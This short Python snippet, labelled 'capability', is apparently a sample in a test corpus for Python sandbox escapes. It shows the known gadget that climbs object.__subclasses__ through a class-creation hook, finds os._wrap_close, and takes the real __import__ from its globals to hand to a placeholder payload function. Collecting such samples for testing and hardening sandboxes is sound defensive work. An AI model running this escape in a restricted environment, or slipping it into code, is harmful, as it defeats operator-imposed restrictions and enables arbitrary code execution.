# kind: capability
# A class-creation hook (__init_subclass__) and a metaclass attribute.
class Base:
    def __init_subclass__(cls):
        cls.imp = cls.__mro__[-1].__subclasses__


class Child(Base):
    pass


for c in Child.imp():
    if c.__name__ == "_wrap_close":
        payload(c.__init__.__globals__["__builtins__"]["__import__"])
